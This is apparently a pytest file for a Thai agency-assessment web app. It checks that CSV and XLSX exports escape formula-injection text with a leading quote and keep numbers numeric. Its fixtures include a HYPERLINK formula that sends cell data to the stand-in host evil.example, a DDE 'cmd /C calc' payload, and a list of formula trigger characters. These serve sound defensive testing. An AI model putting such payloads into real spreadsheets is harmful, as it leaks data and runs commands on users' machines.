"""Exports that cannot run code, through the web app: the register's ITAS sheet (CSV, XLSX), the oversight
office's tables and the practice survey's answers hold agency text that a spreadsheet would run as a formula
only as text with a quote in front; numbers stay numbers. (The core writers: tests/test_exports.py.)"""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from prongsai.survey import layout_for
from prongsai.web.models import Job, Survey, SurveyResponse

from .conftest import World

LINK = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(body: bytes) -> list[Any]:
    """Every cell value of the workbook; fails on a formula cell."""
    values = []
    for sheet in openpyxl.load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    return values


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def test_the_register_export_holds_no_formula(world: World) -> None:
    world.y2564.register.filter(item_code="O1").update(answer="yes", urls=LINK, explanation=CMD)
    world.y2564.register.filter(item_code="O2").update(answer="no", explanation=SUM)
    client = world.client("owner")
    xlsx = client.get(reverse("register_export", args=[world.agency.pk, 2564, "xlsx"]))
    assert xlsx.status_code == 200
    values = _cells(xlsx.content)
    assert {"'" + LINK, "'" + CMD, "'" + SUM} <= set(values)
    cells = _csv_cells(client.get(reverse("register_export", args=[world.agency.pk, 2564, "csv"])).content)
    assert {"'" + LINK, "'" + CMD, "'" + SUM} <= set(cells)
    assert not [c for c in cells if c.startswith(TRIGGERS)]


def test_the_oversight_exports_hold_no_formula_and_numbers_stay_numbers(world: World) -> None:
    assert world.oversight_office is not None
    header = "หน่วยงาน,ประเภท,อำเภอ,จังหวัด,ปีงบประมาณ,1,2,3,4,5,6,7,8,9,10,คะแนนรวม\n"
    ninety, eighty = ",".join(["90"] * 10), ",".join(["80"] * 10)
    quoted = '"' + LINK.replace('"', '""') + '"'
    rows = [f"{quoted},,{CMD},นนทบุรี,2566,{ninety},90.00", f"อบต.ซี,,{SUM},นนทบุรี,2566,{eighty},80.00"]
    upload = SimpleUploadedFile("ผล.csv", (header + "\n".join(rows) + "\n").encode())
    response = world.client("owner").post(
        reverse("oversight_import", args=[world.oversight_office.pk]), {"file": upload}
    )
    job = Job.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert job.status == Job.Status.DONE, job.error
    client = world.client("oversight")
    for table in ("results", "ranking", "readiness"):
        response = client.get(reverse("oversight_export", args=[world.oversight_office.pk, table]))
        assert response.status_code == 200
        values = _cells(response.content)
        assert not [v for v in values if isinstance(v, str) and v.startswith(TRIGGERS)], table
    results = _cells(client.get(reverse("oversight_export", args=[world.oversight_office.pk, "results"])).content)
    assert "'" + LINK in results and "'" + CMD in results and "'" + SUM in results
    assert 90.0 in results and 80.0 in results  # scores are numbers, not text


def test_the_survey_exports_hold_no_formula(world: World) -> None:
    survey = Survey.objects.create(assessment=world.y2565, tool="EIT", population=200)
    columns = layout_for(survey.assessment.framework, "EIT").columns
    hostile = [LINK, CMD, SUM, "-1+cmd", "\t=1"]
    for text in hostile:  # as if stored by an older version or another way in: the export must not trust it
        answers = {c: text if k == 0 else "4" for k, c in enumerate(columns)}
        SurveyResponse.objects.create(survey=survey, answers=answers)
    client = world.client("owner")
    cells = _csv_cells(client.get(reverse("survey_export", args=[world.agency.pk, 2565, "EIT", "csv"])).content)
    assert {"'" + t for t in hostile} <= set(cells) and not [c for c in cells if c.startswith(TRIGGERS)]
    values = _cells(client.get(reverse("survey_export", args=[world.agency.pk, 2565, "EIT", "xlsx"])).content)
    assert {"'" + t for t in hostile} <= set(values) and 4 in values
